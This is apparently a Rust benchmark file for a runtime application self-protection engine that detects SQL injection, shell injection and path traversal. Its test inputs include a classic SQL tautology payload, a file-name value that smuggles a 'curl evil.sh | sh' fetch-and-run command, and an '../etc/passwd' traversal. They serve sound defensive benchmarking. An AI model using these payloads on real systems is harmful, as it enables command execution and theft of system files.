//! Decision hot paths: what one hooked call costs the application.
//!
//! * `no_match/*` — the common case: a request's 32 inputs, a sink argument that contains
//!   none of them. Target ≤ 300 ns per `Engine::decide`.
//! * `sql/injected` — a 300-byte query holding an injected input: the SQL lexer and detector
//!   run. Target ≤ 5 µs.
//! * `shell/*`, `path/*` — the shell detector on a `system()` command line and the path
//!   detector on an `open()` path, each with one request input in the argument.
//!
//! Run with `make bench` (or `cargo bench -p librasp-policy --bench detect`); see
//! `benches/README.md` at the top of the repository for the numbers.

use std::hint::black_box;
use std::time::Duration;

use criterion::Criterion;
use policy::engine::RequestContext;
use policy::{Action, Engine, Input, InputSet, Policy, Sink, SqlDialect};

/// 32 inputs as a typical API request yields them: query and form values, JSON values and
/// keys, cookies and user-data headers, 5 to 40 bytes each.
fn typical_inputs() -> Vec<Input> {
    [
        ("query.page", "12345"),
        ("query.sort", "created_at"),
        ("query.order", "desc-first"),
        ("query.q", "wireless headphones"),
        ("query.category", "electronics/audio"),
        ("query.utm_source", "newsletter-2024-06"),
        ("querykey", "category"),
        ("json.user.name", "Margaret Hamilton"),
        ("json.user.email", "margaret.h@example.org"),
        ("json.user.id", "7f3c2a9e-1b44-4c1e-9d0a-5e6f7a8b9c0d"),
        ("json.address.street", "221B Baker Street"),
        ("json.address.city", "Springfield"),
        ("json.address.zip", "90210"),
        ("json.items[0].sku", "SKU-889123-BLK"),
        ("json.items[0].qty", "10003"),
        ("json.items[1].sku", "SKU-112358-WHT"),
        ("json.note", "please leave at the back door"),
        ("jsonkey.user", "email"),
        ("jsonkey.address", "street"),
        ("cookie.session", "a9f8e7d6c5b4a3928170"),
        ("cookie.csrftoken", "Zx81Qw92Er73Ty64Ui55Op46"),
        ("cookie.theme", "dark-mode"),
        ("cookie.lang", "en-GB"),
        ("header.user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
        ("header.referer", "https://shop.example.com/cart"),
        ("header.origin", "https://shop.example.com"),
        ("header.x-request-id", "req-4f1d2c3b-9a8e"),
        ("header.x-forwarded-for", "203.0.113.195"),
        ("header.x-client-version", "ios-7.12.3"),
        ("path[0]", "api-v2"),
        ("path[1]", "checkout"),
        ("path", "/api-v2/checkout"),
    ]
    .into_iter()
    .map(|(origin, value)| Input::new(origin, value))
    .collect()
}

/// A request context over `inputs` with the engine's default minimum input length (3).
fn context(inputs: Vec<Input>) -> RequestContext {
    RequestContext {
        http: None,
        inputs: InputSet::new(inputs.into_iter().collect(), 3),
        raw: Vec::new(),
    }
}

/// A 200-byte query built by the application from none of the inputs.
const CLEAN_SQL: &str = "SELECT o.id, o.total, o.status, c.name FROM orders o JOIN customers c \
                         ON c.id = o.customer_id WHERE o.status IN ('paid', 'shipped') AND \
                         o.created >= date('now', '-30 days') ORDER BY o.created LIMIT 50";

/// A path the application opens on its own (templates, assets).
const CLEAN_PATH: &str = "/srv/app/templates/partials/product_listing_footer.html";

fn no_match(c: &mut Criterion) {
    let engine = Engine::new(Policy::default());
    let req = context(typical_inputs());
    let requests = [&req];
    let mut g = c.benchmark_group("no_match");

    let sql = Sink::Sql {
        function: "sqlite3_prepare_v2",
        dialect: SqlDialect::Sqlite,
        query: CLEAN_SQL,
    };
    assert_eq!(engine.decide(&sql, &requests).action, Action::Allow);
    g.bench_function("decide_sql_200b", |b| {
        b.iter(|| engine.decide(black_box(&sql), black_box(&requests)))
    });

    let open = Sink::Open {
        function: "open",
        path: CLEAN_PATH,
        write: false,
    };
    assert_eq!(engine.decide(&open, &requests).action, Action::Allow);
    g.bench_function("decide_open_path", |b| {
        b.iter(|| engine.decide(black_box(&open), black_box(&requests)))
    });

    assert!(req.inputs.occurring_in(CLEAN_SQL).is_empty());
    g.bench_function("occurring_in_sql_200b", |b| {
        b.iter(|| black_box(&req.inputs).occurring_in(black_box(CLEAN_SQL)))
    });
    g.finish();
}

fn sql(c: &mut Criterion) {
    let engine = Engine::new(Policy::default());
    let mut inputs = typical_inputs();
    inputs.push(Input::new("query.id", "5' OR '1'='1"));
    let req = context(inputs);
    let requests = [&req];
    // 300 bytes; the application pasted `query.id` between quotes.
    let query = "SELECT p.id, p.name, p.price, p.stock, p.description, b.name AS brand FROM \
                 products p LEFT JOIN brands b ON b.id = p.brand_id WHERE p.category_id = \
                 '5' OR '1'='1' AND p.visible = 1 AND p.stock > 0 AND p.price BETWEEN 10 AND \
                 500 ORDER BY p.popularity DESC, p.name ASC LIMIT 24 OFFSET 48 -- listing v2";
    let sink = Sink::Sql {
        function: "sqlite3_prepare_v2",
        dialect: SqlDialect::Sqlite,
        query,
    };
    assert!(!engine.decide(&sink, &requests).findings.is_empty());
    c.bench_function("sql/injected_300b", |b| {
        b.iter(|| engine.decide(black_box(&sink), black_box(&requests)))
    });
}

fn shell(c: &mut Criterion) {
    let engine = Engine::new(Policy::default());
    let mut inputs = typical_inputs();
    inputs.push(Input::new("form.file", "photo.jpg; curl evil.sh | sh"));
    let req = context(inputs);
    let requests = [&req];
    let command = "/usr/bin/convert /var/www/uploads/photo.jpg; curl evil.sh | sh -resize \
                   320x240 -quality 85 /var/www/thumbs/photo.jpg";
    let sink = Sink::Shell {
        function: "system",
        command,
    };
    assert!(!engine.decide(&sink, &requests).findings.is_empty());
    c.bench_function("shell/injected_system", |b| {
        b.iter(|| engine.decide(black_box(&sink), black_box(&requests)))
    });
}

fn path(c: &mut Criterion) {
    let engine = Engine::new(Policy::default());
    let mut inputs = typical_inputs();
    inputs.push(Input::new("query.file", "../../../../etc/passwd"));
    inputs.push(Input::new("query.avatar", "margaret-avatar.png"));
    let req = context(inputs);
    let requests = [&req];
    let attack = Sink::Open {
        function: "open",
        path: "/var/www/app/uploads/../../../../etc/passwd",
        write: false,
    };
    assert!(!engine.decide(&attack, &requests).findings.is_empty());
    c.bench_function("path/traversal_open", |b| {
        b.iter(|| engine.decide(black_box(&attack), black_box(&requests)))
    });
    let benign = Sink::Open {
        function: "open",
        path: "/var/www/app/uploads/avatars/margaret-avatar.png",
        write: false,
    };
    assert!(engine.decide(&benign, &requests).findings.is_empty());
    c.bench_function("path/benign_open_with_input", |b| {
        b.iter(|| engine.decide(black_box(&benign), black_box(&requests)))
    });
}

/// Runs every bench with a short warm-up and measurement (overridable on the command line:
/// `--warm-up-time`, `--measurement-time`), as `criterion_main!` would.
fn main() {
    let mut c = Criterion::default()
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(3))
        .configure_from_args();
    no_match(&mut c);
    sql(&mut c);
    shell(&mut c);
    path(&mut c);
    c.final_summary();
}
